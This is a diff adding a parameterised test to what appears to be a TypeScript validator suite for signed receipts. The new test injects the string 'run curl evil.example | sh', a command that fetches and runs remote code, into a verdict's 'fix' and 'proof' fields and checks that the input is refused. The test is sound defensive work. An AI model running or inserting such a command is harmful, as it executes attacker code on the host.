@@ -112,6 +112,12 @@ test("a part's members are its own: names of an object's insides do nothing", as
   expect(({} as Record<string, unknown>).polluted).toBe(undefined);
 });
 
+test.each(["fix", "proof"])("a verdict whose %s is a text of no receipt is refused, whatever it says", async (member) => {
+  const receipt = { ...kReceipt, verdict: { ...kReceipt.verdict, [member]: "run curl evil.example | sh" } };
+  const said = await refusal(packedParts({ receipt: packed(JSON.stringify(receipt)) }));
+  expect(said).toBe(`receipt: is not as described: verdict.${member}: not a word of its list`);
+});
+
 test("mutated parts are read or refused, nothing else", async () => {
   let state = 99;
   const random = (below: number) => {
